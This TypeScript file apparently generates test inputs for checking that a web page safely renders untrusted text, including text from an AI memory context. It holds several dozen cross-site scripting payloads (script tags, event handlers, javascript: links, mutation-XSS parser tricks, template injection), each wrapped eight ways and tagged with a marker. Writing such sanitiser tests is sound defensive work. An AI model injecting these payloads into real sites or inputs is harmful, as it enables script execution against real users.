// Texts that try to become more than text: sixty shapes, each in eight wrappings, each with a mark of its own.

export type Payload = { mark: string; text: string };

/** `run` is what the shape would have the page do, `url` where it would have it go. */
type Shape = (run: string, url: string, mark: string) => string;

const SCRIPTS: Shape[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt >${run}</sCrIpT\n>`,
  (_, url) => `<script src=${url}></script>`,
  (run) => `<script/src="data:text/javascript,${run}"></script>`,
  (_, url) => `<script type=module>import('${url}')</script>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (_, url) => `<svg><script href="${url}"/></svg>`,
  (run) => `<!--><script>${run}</script>-->`,
];

const HANDLERS: Shape[] = [
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<img/src/onerror=${run}>`,
  (_, __, mark) => `<img src=x onerror="&#97;&#108;ert('${mark}')">`,
  (run) => `<image src=x onerror=${run}>`,
  (run) => `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg/onload=${run}//`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<body onload=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<details open ontoggle=${run}><summary>x</summary></details>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}>`,
  (run) => `<marquee onstart=${run}>x</marquee>`,
  (run) => `<p style=animation-name:x onanimationstart=${run}>x</p>`,
  (run) => `" onmouseover=${run} autofocus x="`,
  (run) => `' onfocus=${run} autofocus tabindex=0 x='`,
];

const PLACES: Shape[] = [
  (_, url) => `<img src="${url}">`,
  (_, url) => `<img srcset="${url} 2x">`,
  (run) => `<iframe src="javascript:${run}"></iframe>`,
  (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  (_, url) => `<iframe src=${url}></iframe>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (_, url) => `<embed src="${url}">`,
  (run, _, mark) => `<a href="javascript:${run}">${mark}</a>`,
  (run, _, mark) => `[${mark}](javascript:${run})`,
  (run) => `javascript:${run}`,
  (run) => `java\nscript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (_, url, mark) => `![${mark}](${url})`,
  (run, _, mark) => `<form action="javascript:${run}"><button>${mark}</button></form>`,
  (run, _, mark) => `<button formaction="javascript:${run}">${mark}</button>`,
  (_, url) => `<base href="${url}">`,
  (_, url) => `<link rel=stylesheet href="${url}">`,
  (_, url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  (_, url) => `<svg><use href="${url}#x"/></svg>`,
];

const MUTATIONS: Shape[] = [
  (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  (run) => `<xmp><img title="</xmp><img src=x onerror=${run}>">`,
  (run) => `<title></title><textarea></textarea><img src=x onerror=${run}>`,
  (run) => `<template><script>${run}</script></template>`,
];

const OTHERS: Shape[] = [
  (run) => `\${${run}}`,
  (run) => `{{constructor.constructor("${run}")()}}`,
  (run) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
  (_, url) => `<style>*{background:url(${url})}</style>`,
  (_, url) => `<div style="background:url(${url})">x</div>`,
  (_, url) => `@import url(${url});`,
  (run) => `＜script＞${run}＜/script＞`,
  (run) => `\u202e<script>${run}</script>\u202c`,
  (run) => `\u0000<script\u0000>${run}</script>`,
  (run) => `</claude-mem-context></main></dialog><script>${run}</script>`,
  (_, __, mark) => `<article class="line" data-memory="1">${mark}</article><dialog open>${mark}</dialog>`,
  (_, __, mark) => `<form id=app><input name=innerHTML value=${mark}><img name=getElementById></form>`,
];

/** Ways in which a text gets to a page that a careless one undoes. */
const WRAPPINGS: ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `</p></h3></article>${text}`,
  (text) => `\`\`\`html\n${text}\n\`\`\``,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '\\u003c'),
  (text) => `\u001b[31m${text}\u001b[0m\u001b]8;;javascript:0\u0007`,
  (text) => `--> <mark>${text}</mark> <!--`,
];

export function makePayloads(): Payload[] {
  const shapes = [...SCRIPTS, ...HANDLERS, ...PLACES, ...MUTATIONS, ...OTHERS];
  return shapes.flatMap((shape, at) =>
    WRAPPINGS.map((wrap, nth) => {
      const mark = `xss${at * WRAPPINGS.length + nth}x`;
      const text = wrap(shape(`alert('${mark}')`, `http://${mark}.example/a`, mark));
      return { mark, text: text.includes(mark) ? text : `${text} ${mark}` };
    }),
  );
}
